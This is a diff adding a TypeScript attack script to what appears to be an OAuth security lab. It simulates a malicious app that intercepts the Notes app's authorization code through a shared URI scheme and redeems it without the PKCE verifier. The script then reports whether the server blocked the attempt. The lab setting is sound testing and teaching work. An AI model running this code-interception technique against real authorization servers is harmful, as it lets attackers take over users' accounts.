@@ -1,0 +1,57 @@
+/**
+ * A malicious app on alice's phone registered the same private-use URI scheme as the Notes app
+ * (`com.example.notes:`). When the authorization server redirects alice's browser back to
+ * `com.example.notes:/callback?code=…`, the operating system may hand that URL to the malicious
+ * app instead. It never saw the Notes app's PKCE verifier, so it redeems the code without one.
+ */
+import { createHash, randomBytes } from 'node:crypto';
+import { blocked, defineAttack, worked } from '@authlab/lab-kit';
+
+export default defineAttack({
+  title: "intercept the Notes app's authorization code on alice's phone and redeem it without the PKCE verifier",
+  why: 'the authorization server only checks code_verifier when the client sends one, so a stolen code is as good as a token',
+  async run(lab) {
+    const { clientId, redirectUri } = lab.info as { clientId: string; redirectUri: string };
+
+    // 1. The Notes app signs alice in the right way: PKCE S256, its verifier kept in its memory.
+    const verifier = randomBytes(32).toString('base64url');
+    const authorize = new URL('/authorize', lab.url);
+    authorize.search = new URLSearchParams({
+      response_type: 'code',
+      client_id: clientId,
+      redirect_uri: redirectUri,
+      state: randomBytes(16).toString('base64url'),
+      code_challenge: createHash('sha256').update(verifier).digest('base64url'),
+      code_challenge_method: 'S256',
+    }).toString();
+    const response = await fetch(authorize, { redirect: 'manual' });
+    const location = response.headers.get('location');
+    if (!location) throw new Error(`GET /authorize answered ${response.status} without a redirect`);
+
+    // 2. The OS hands `com.example.notes:/callback?code=…` to the malicious app, which registered
+    //    the same scheme. It has the code, and the client_id and redirect_uri are public.
+    const code = new URL(location).searchParams.get('code');
+    if (!code) throw new Error(`the redirect carried no code: ${location}`);
+
+    // 3. It redeems the code first, without a code_verifier: it never saw one.
+    const token = await fetch(`${lab.url}/token`, {
+      method: 'POST',
+      body: new URLSearchParams({
+        grant_type: 'authorization_code',
+        code,
+        client_id: clientId,
+        redirect_uri: redirectUri,
+      }),
+    });
+    const answer = (await token.json()) as { access_token?: string; error?: string };
+    if (!answer.access_token) {
+      return blocked(`POST /token without a code_verifier answered ${token.status} ${answer.error ?? ''}`.trim());
+    }
+    const me = (await (
+      await fetch(`${lab.url}/api/me`, { headers: { authorization: `Bearer ${answer.access_token}` } })
+    ).json()) as { sub?: string };
+    return worked(
+      `the intercepted code, redeemed without a code_verifier, gave an access token; GET /api/me answered sub "${me.sub}"`,
+    );
+  },
+});
